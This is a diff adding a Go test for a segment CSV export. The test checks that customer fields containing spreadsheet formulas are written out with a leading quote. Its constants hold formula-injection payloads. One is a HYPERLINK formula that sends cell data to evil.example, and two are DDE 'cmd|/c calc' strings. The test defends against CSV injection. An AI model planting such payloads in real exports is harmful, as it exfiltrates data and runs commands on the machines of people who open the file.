@@ -219,3 +219,41 @@ func containsAll(got, want []int64) bool {
 	}
 	return true
 }
+
+// Cells a spreadsheet would run: a customer's identifiers are theirs to
+// choose, so an export must write them as text.
+const (
+	formulaUserID = `=HYPERLINK("https://evil.example/?"&A2,"open")`
+	formulaEmail  = `=cmd|'/ccalc'!a0@evil.example`
+	formulaUser2  = `@SUM(1+1)*cmd|'/Ccalc'!A0`
+	e164Phone     = "+491701234567"
+)
+
+// TestAPISegmentExportFormulas exports customers whose user id and email
+// are formulas: each such cell gets a leading quote, an E.164 phone stays
+// as it is, and the hashes are of the stored values.
+func TestAPISegmentExportFormulas(t *testing.T) {
+	each(t, func(t *testing.T, e *env) {
+		e.mustSend("batch", e.write, obj{"batch": []any{
+			obj{"type": "identify", "userId": formulaUserID, "traits": obj{"email": formulaEmail, "plan": "evil"}},
+			obj{"type": "identify", "userId": formulaUser2, "traits": obj{"phone": e164Phone, "plan": "evil"}},
+		}})
+		id1, id2 := customerID(t, e, e.owner, formulaUserID), customerID(t, e, e.owner, formulaUser2)
+		var seg segmentDoc
+		e.mustAPI(e.owner, "POST", "/segments", obj{"name": "evil", "text": `plan = "evil"`}, 201).decode(t, &seg)
+		r := e.mustAPI(e.owner, "GET", fmt.Sprintf("/segments/%d/export?hashed=true", seg.ID), nil, 200)
+		rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		email, phone := sha256.Sum256([]byte(formulaEmail)), sha256.Sum256([]byte(e164Phone))
+		want := [][]string{
+			{"id", "user_id", "email", "phone", "email_sha256", "phone_sha256"},
+			{fmt.Sprint(id1), "'" + formulaUserID, "'" + formulaEmail, "", hex.EncodeToString(email[:]), ""},
+			{fmt.Sprint(id2), "'" + formulaUser2, "", e164Phone, "", hex.EncodeToString(phone[:])},
+		}
+		if !slices.EqualFunc(rows, want, slices.Equal) {
+			t.Errorf("export:\n%q\nwant\n%q", rows, want)
+		}
+	})
+}
